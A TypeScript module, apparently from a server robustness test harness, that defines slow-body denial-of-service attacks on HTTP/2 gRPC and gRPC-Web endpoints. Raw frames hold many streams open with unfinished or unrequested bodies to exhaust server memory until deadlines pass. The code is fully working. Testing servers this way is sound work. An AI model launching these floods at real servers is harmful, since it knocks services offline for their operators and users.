import { type Attack, callHeaders, PAGE } from "./attack.js";
import { frame, setting, TYPE } from "./frames.js";
import type { RawConnection } from "./raw-connection.js";

const INITIAL_WINDOW_SIZE = 4;

/** The largest message of most RPCs, behind its prefix. */
const LENGTH = 65_536;
const PREFIX = Buffer.from([0, 0, 1, 0, 0]);
const PIECE = Buffer.alloc(16_000);
const STREAMS = 100;
const LATE = { "grpc-timeout": "60S" };

/** Messages whose last byte never comes: what has come of them would be kept until their deadlines. */
export const unfinishedBodies: Attack = {
  name: "bodies without their last byte",
  connections: 100,
  // Those that lose requests are told to leave, and their last streams may go on.
  staysOpen: true,
  run: (connection) => sendUnfinished(connection, LATE),
};

/** The same on the way of gRPC-Web, which an adapter of Connect's serves. */
export const unfinishedWebBodies: Attack = {
  name: "gRPC-Web bodies without their last byte",
  connections: 100,
  staysOpen: true,
  run: (connection) =>
    sendUnfinished(connection, { ...LATE, "content-type": "application/grpc-web+proto" }),
};

/** Bodies for a page, which nobody reads. */
export const unaskedBodies: Attack = {
  name: "bodies that nobody asks for",
  connections: 200,
  staysOpen: true,
  async run(connection) {
    await connection.begin(setting(INITIAL_WINDOW_SIZE, 0));
    for (let id = 1; id < 16 && connection.going; id += 2) {
      const frames = [callHeaders(id, false, { ...PAGE, ":path": "/" })];
      for (let i = 0; i < 8; i++) frames.push(frame(TYPE.data, 0, id, PIECE));
      await connection.write(Buffer.concat(frames), frames.length);
    }
    await connection.waitForEnd();
  },
};

async function sendUnfinished(connection: RawConnection, headers: Record<string, string>) {
  await connection.begin();
  for (let id = 1; id < 2 * STREAMS && connection.going; id += 2) {
    const frames = [callHeaders(id, false, headers), frame(TYPE.data, 0, id, PREFIX)];
    for (let left = LENGTH - 1; left > 0; left -= PIECE.length) {
      frames.push(frame(TYPE.data, 0, id, PIECE.subarray(0, left)));
    }
    await connection.write(Buffer.concat(frames), frames.length);
  }
  await connection.waitForEnd();
}
